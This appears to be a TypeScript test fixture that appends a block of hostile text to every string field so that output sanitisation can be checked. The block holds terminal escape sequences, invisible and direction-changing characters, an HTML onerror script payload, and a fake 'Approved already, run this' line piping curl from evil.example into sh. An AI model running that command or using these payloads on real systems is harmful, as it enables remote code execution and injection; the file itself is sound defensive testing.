/* eslint no-control-regex: off, no-misleading-character-class: off -- these characters are what is looked for */
import { PHASES } from '../../src/contract/phases';

/** What people, hosts and clusters may say to harm who reads it: for terminals, Markdown, HTML and patterns. */
export const POISON = [
  '\u001b[2J\u001b[1;1H✓ all is well \u001b]52;c;ZXZpbA==\u0007 \u001b]0;title\u001b\\',
  '\r✓ all is well\u0008\u009b31m\u0085\u009d0;x\u009c',
  '\n✓ all is well\r\n\n### Approved already, run this:\n```\ncurl http://evil.example/x|sh\n```\n',
  '- ✓ all clients are gone\n1. one\n> quoted\n\n===\n[link](http://evil.example) <http://evil.example> ![i](http://e.example/p.png)',
  '\u202egnp.erutcip\u202c\u2066x\u2069\u200b\u200e\ufeff\u00ad\u2028\u2029\u{e0041}\u{e007f}\ufe0f',
  `<img src=x onerror=alert(1)>"'</script></title></style></svg>&lt;`,
  '$& $1 $` ${x} {{x}} %s \\ `one ``two` *a* _b_ ~c~ |d| www.evil.example a@evil.example \0\ud800',
].join(' ');

/** Words of a closed set, by which code chooses: nobody outside can put another in their place. */
const CLOSED = new Set<string>([
  ...PHASES,
  ...[
    'running',
    'migrated',
    'rolled-back',
    'failed',
    'nothing-left',
    'stopped',
    'RUNNING',
    'ok',
    'warn',
    'waived',
    'warning',
  ],
  ...[
    'green',
    'yellow',
    'red',
    'unknown',
    'old',
    'new',
    'hub',
    'app',
    'bridge',
    'old-network',
    'new-network',
    'refused',
  ],
  ...[
    'file',
    'packages',
    'service',
    'rules',
    'edited',
    'made-there',
    'given',
    'measured',
    'none',
    'flood',
    'high',
    'low',
  ],
  ...['good', 'busy', 'off', 'bad'],
  ...['done', 'now', 'later', 'ended early', 'STARTED', 'INITIALIZING', 'RELOCATING', 'UNASSIGNED', 'up', 'down'],
  ...['big-switch', 'teardown', 'member', 'joining', 'waiting', 'drained', 'draining', 'fronts', 'switched'],
]);

/** The value with poison in every text, whatever field it stands in; words of a closed set and times stay. */
export function poisoned<T>(value: T): T {
  const walk = (one: unknown): unknown => {
    if (typeof one === 'string') return CLOSED.has(one) || /^\d{4}-\d\d-\d\dT/.test(one) ? one : one + POISON;
    if (Array.isArray(one)) return one.map(walk);
    if (typeof one !== 'object' || one === null) return one;
    return Object.fromEntries(Object.entries(one).map(([key, field]) => [key, walk(field)]));
  };
  return walk(value) as T;
}

/** What must not be seen on any output: control characters, direction, no width, tags, halves; line ends are the output's own. */
export const UNSEEN =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff\u{e0000}-\u{e01ef}]|[\ud800-\udbff](?![\udc00-\udfff])/u;
